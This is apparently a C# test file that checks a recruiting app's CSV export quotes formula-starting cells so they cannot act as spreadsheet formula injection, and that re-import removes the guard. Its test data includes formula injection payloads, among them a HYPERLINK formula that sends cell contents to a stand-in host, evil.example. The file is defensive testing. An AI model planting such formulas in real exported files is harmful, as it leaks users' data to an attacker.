using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using NearshoreHub.Web.Features.Common;
using NearshoreHub.Web.Tests.Infrastructure;

namespace NearshoreHub.Web.Tests.Professionals;

/// <summary>CSV exports never hand a spreadsheet a formula, and the guard comes off again on import.</summary>
public sealed class FormulaGuardTests(NearshoreApiFactory app) : IClassFixture<NearshoreApiFactory>
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("\tTab", "'\tTab")]
    [InlineData("\rCR", "'\rCR")]
    [InlineData("'=already quoted", "''=already quoted")]
    [InlineData("'plain quote", "'plain quote")]
    [InlineData("plain", "plain")]
    [InlineData("a=b", "a=b")]
    [InlineData("'", "'")]
    [InlineData("", "")]
    public void Guard_quotes_formula_starts_and_unguard_undoes_exactly_that(string value, string guarded)
    {
        Assert.Equal(guarded, SpreadsheetSafeCsv.Guard(value));
        Assert.Equal(value, SpreadsheetSafeCsv.Unguard(SpreadsheetSafeCsv.Guard(value)));
    }

    [Fact]
    public async Task Formula_like_text_exports_guarded_and_imports_back_to_the_identical_stored_value()
    {
        var values = new (string FullName, string Headline)[]
        {
            ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1 555 0100"),
            ("@SUM(1)", "-5 years of Go"),
            ("'=Quoted Already", "=1+2"),
        };
        using var client = await app.RecruiterAsync();
        for (var i = 0; i < values.Length; i++)
        {
            var body = Samples.Professional($"p{i}@guard.example");
            body["fullName"] = values[i].FullName;
            body["headline"] = values[i].Headline;
            body["city"] = "Guardtown";
            (await client.PostAsJsonAsync("/api/v1/professionals", body, NearshoreApiFactory.Json)).EnsureSuccessStatusCode();
        }

        var first = await client.GetStringAsync("/api/v1/professionals/export?q=guardtown");
        var lines = first.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(values.Length + 1, lines.Length);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",", first, StringComparison.Ordinal);
        Assert.Contains(",'+1 555 0100,", first, StringComparison.Ordinal);
        Assert.Contains("'@SUM(1),", first, StringComparison.Ordinal);
        Assert.Contains(",'-5 years of Go,", first, StringComparison.Ordinal);
        Assert.Contains("''=Quoted Already,", first, StringComparison.Ordinal);
        // No cell of the file starts a formula: every cell is checked, numbers included.
        foreach (var line in lines.Skip(1))
        {
            Assert.DoesNotMatch("(^|,)\"?[=+\\-@]", line);
        }

        var import = await client.PostAsync("/api/v1/professionals/import?mode=atomic", new StringContent(first, new UTF8Encoding(false), "text/csv"));
        var result = await import.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.OK, import.StatusCode);
        Assert.Equal((0, 0, values.Length), (result.GetProperty("inserted").GetInt32(), result.GetProperty("updated").GetInt32(), result.GetProperty("unchanged").GetInt32()));

        var stored = await app.QueryAsync("SELECT full_name, headline FROM professionals WHERE email LIKE '%@guard.example' ORDER BY email");
        Assert.Equal(values.Select(v => new[] { v.FullName, v.Headline }), stored.Select(r => new[] { r[0]!, r[1]! }));
        Assert.Equal(first, await client.GetStringAsync("/api/v1/professionals/export?q=guardtown"));
    }

    [Fact]
    public async Task A_guarded_file_imported_fresh_stores_the_values_without_the_guard()
    {
        var file = ProfessionalCsvFiles.File(
            ProfessionalCsvFiles.Row("fresh@guardfresh.example").With("fullName", "'=CMD()").With("headline", "'@x"));
        using var client = await app.RecruiterAsync();

        var response = await client.PostAsync("/api/v1/professionals/import?mode=atomic", new StringContent(file, new UTF8Encoding(false), "text/csv"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var stored = await app.QueryAsync("SELECT full_name, headline FROM professionals WHERE email = 'fresh@guardfresh.example'");
        Assert.Equal(["=CMD()", "@x"], stored.Single().Select(v => v ?? "").ToArray());
    }
}
